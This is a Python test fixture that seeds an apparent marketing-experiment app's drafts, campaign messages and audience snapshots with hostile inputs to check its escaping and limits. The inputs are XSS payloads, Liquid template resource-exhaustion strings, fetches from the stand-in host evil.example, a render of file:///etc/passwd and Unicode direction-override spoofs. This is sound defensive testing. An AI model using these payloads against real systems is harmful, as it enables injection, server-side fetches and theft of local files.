"""A home whose every foreign text is an attack: names, labels, attributes, values, templates."""

from __future__ import annotations

import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pyarrow as pa

from services.bootstrap import Console, open_console
from services.content.lock import digest
from services.database import schema
from services.experiment.store import create_draft
from services.settings import load_settings

TEXTS = Path(__file__).parent / "payloads.txt"
LONG = 5_000  # characters
MAX_LABEL, MAX_OPTION, MAX_NAME = 80, 120, 120  # of the experiment document
CHANNELS = ("email", "sms", "push")
PEOPLE = 40


def payloads() -> list[str]:
    """Every attack, each with a request of its own. `OWN` stands for what runs if anything does."""
    lines = TEXTS.read_text(encoding="utf-8").splitlines()
    written = [line for line in lines if line and not line.startswith("# ")]
    found = []
    for at, text in enumerate([*written, *_made()]):
        target = f"https://evil.example/{at}"
        found.append(
            text.replace("URL", target).replace("NUMBER", str(at)).replace("OWN", "alert(1)")
        )
    return found


def _made() -> list[str]:
    doubled = "{% for i in (1..60) %}{% assign a = a | append: a %}{% endfor %}{{ a }}"
    return [
        "{% for i in (1..9999) %}{% for j in (1..9999) %}x{% endfor %}{% endfor %}",
        "{% assign a = 'xxxxxxxxxx' %}" + doubled,
        "{{ (1..99999999) | join: '<script>OWN</script>' }}",
        "{% if a %}" * 200,
        "{{ '<script>OWN</script>' }}",
        "{% raw %}<script>OWN</script>{% endraw %}",
        "{% capture x %}<img src=x onerror=OWN>{% endcapture %}{{ x }}{{ x }}",
        "{{ 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' | base64_decode }}",
        "{% connected_content URL :save x %}{{ x }}<img src=URL.png>",
        "{% include 'URL' %}{% render 'file:///etc/passwd' %}",
        "{{custom_attribute.${<script>OWN</script>}}}",
        "x" * LONG,
        "<b>" * (LONG // 3),
        "[" * LONG,
        "*_`~:" * (LONG // 5),
        "<script>OWN</script>" * (LONG // 20),
        "\u202e<script>OWN</script>\u202c gnp.exe",
        "\u202eOWN//\u2066 fdp\u2069",
        "\u2067\u2067\u2067\u202b" + "abc " * 20,
        "Z\u0310\u0311\u0312\u0313" * 200,
        "\u200b\u200b<img src=x onerror=OWN>\ufeff",
        "a\x00<script>OWN</script>",
        "\x1b[2J\x07<script>OWN</script>",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 100,
        "\ud7ff\ue000\ufffe<svg onload=OWN>",
    ]


class HostileSite:
    """Drafts, each made of a few attacks, in a home of its own."""

    def __init__(self, home: Path) -> None:
        self.home = home
        self.console: Console = open_console(load_settings({}, home=home))

    def draft(self, attacks: Sequence[str]) -> str:
        """One draft in which every attack is an option and each stands as names somewhere."""
        self._catalogue(attacks)
        first, second, third = (attacks[at % len(attacks)] for at in range(3))
        label = (first or "x")[:MAX_OPTION]
        document: dict[str, Any] = {
            "name": second[:MAX_NAME],
            "use_case": "custom",
            "audience": {
                "segment_ids": ["seg-0"],
                "attributes": [first[:MAX_LABEL], "tier"],
                "sms_consent_attribute": "tier",
            },
            "metric": {
                "kind": "conversion",
                "sources": [{"kind": "event", "name": third[:MAX_LABEL]}],
                "noun": third[:40],
                "window_days": 7,
            },
            "dimensions": [
                {
                    "key": "offer",
                    "kind": "offer",
                    "label": third[:MAX_LABEL],
                    "options": [
                        {"key": f"o{at}", "label": text[:MAX_OPTION], "value": text, "cost": 1.0}
                        for at, text in enumerate([*attacks, "plain"])
                    ],
                },
                {
                    "key": "channel",
                    "kind": "channel",
                    "label": label[:MAX_LABEL],
                    "options": [{"key": c, "label": label, "value": c} for c in CHANNELS],
                },
            ],
            "rules": [
                {
                    "kind": "option_needs",
                    "dimension": "offer",
                    "option": "o0",
                    "attribute": first[:MAX_LABEL],
                    "comparison": "is",
                    "value": second[:MAX_LABEL],
                },
                {"kind": "exclude", "when": {"offer": "o0", "channel": "sms"}},
            ],
            "targets": [
                {"when": {"channel": c}, "kind": "campaign", "id": f"c-{c}", "channel": c}
                for c in CHANNELS
            ],
        }
        id = create_draft(self.console.database, self.console.clock, by="local", document=document)
        self._snapshot(id, first, second)
        return id

    def _catalogue(self, attacks: Sequence[str]) -> None:
        text = "".join(attacks)
        carried = "{{api_trigger_properties.${offer}}}"
        name = attacks[0]
        rows = [("segment", "seg-0", {"size": 1_000, "sizes": []})]
        for channel in CHANNELS:
            message = {
                "channel": channel,
                "from": text,
                "subject": f"{carried}{name}",
                "preheader": f"{carried}{name}",
                "title": f"{carried}{name}",
                "alert": f"{carried}{text}",
                "body": f"{carried}<hr>{name}{{{{custom_attribute.${{tier}}}}}}",
            }
            rows.append(("campaign", f"c-{channel}", {"enabled": True, "messages": {"m": message}}))
        with self.console.database.write() as connection:
            connection.execute(schema.catalogue.delete())
            for kind, id, document in rows:
                connection.execute(
                    schema.catalogue.insert().values(
                        kind=kind,
                        id=id,
                        name=name,
                        document=document,
                        content_digest=digest(document),
                        refreshed_at=time.time(),
                    )
                )

    def _snapshot(self, id: str, attribute: str, value: str) -> None:
        columns = {
            "person": pa.array(range(PEOPLE), pa.int64()),
            "in_audience": pa.array([True] * PEOPLE),
            "time_zone": pa.array(["UTC"] * PEOPLE),
            "country": pa.array([value] * PEOPLE),
            "language": pa.array([value] * PEOPLE),
            "email_subscribe": pa.array(["opted_in"] * PEOPLE),
            "push_subscribe": pa.array(["opted_in"] * PEOPLE),
            "attr:tier": pa.array([value, attribute] * (PEOPLE // 2)),
            f"attr:{attribute[:MAX_LABEL]}": pa.array([attribute, value] * (PEOPLE // 2)),
        }
        day = self.console.clock.now().date()
        self.console.lake.append("snapshots", id, day, pa.table(columns))
